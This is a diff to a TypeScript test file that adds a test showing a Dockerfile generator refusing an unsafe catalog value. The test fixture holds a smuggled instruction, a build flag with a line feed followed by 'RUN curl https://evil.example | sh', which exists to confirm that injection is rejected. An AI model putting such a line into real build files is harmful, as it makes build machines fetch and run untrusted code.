@@ -12,6 +12,7 @@ import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'no
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { formatDiagnostic, loadCatalog } from '../../packages/catalog/src/index.js';
+import { run } from '../../packages/catalog/src/cli/run.js';
 import { generate, render } from '../../packages/catalog/src/generate/index.js';
 import { dockerPair, dockerValue, shellWord } from '../../packages/catalog/src/generate/quote.js';
 import { cleanFixtures } from './support.js';
@@ -177,6 +178,18 @@ test('dockerValue: one ENV property per value, read back exactly under BuildKit\
     assert.not.match(body.replace(/\\./g, ''), /["$]/, `unescaped character in ${quoted}`);
     assert.is(body.replace(/\\(["$\\])/g, '$1'), v);
   });
+});
+
+test('`lamina gen` prints the refusal as file: message [generate/unsafe-value], exits 1 and writes nothing', async () => {
+  const root = hostileCatalog(`{ system = 'autotools, flags = ["--x\\nRUN curl https://evil.example | sh"] }`);
+  let stdout = '';
+  let stderr = '';
+  const stream = (append: (s: string) => void) => ({ isTTY: false, write: (c: string) => (append(String(c)), true) }) as unknown as NodeJS.WritableStream;
+  const code = await run(['gen'], { stdout: stream((s) => (stdout += s)), stderr: stream((s) => (stderr += s)), env: {} }, root);
+  assert.is(code, 1);
+  assert.match(stderr, /^layers\/openssl\/build_directives\.ncl: build\.flags\[0\]: contains a line feed.*\[generate\/unsafe-value\]$/m);
+  assert.not.match(stdout, /wrote/);
+  assert.not.ok(existsSync(join(root, 'generated')));
 });
 
 test('no file anywhere received the refused instruction', async () => {
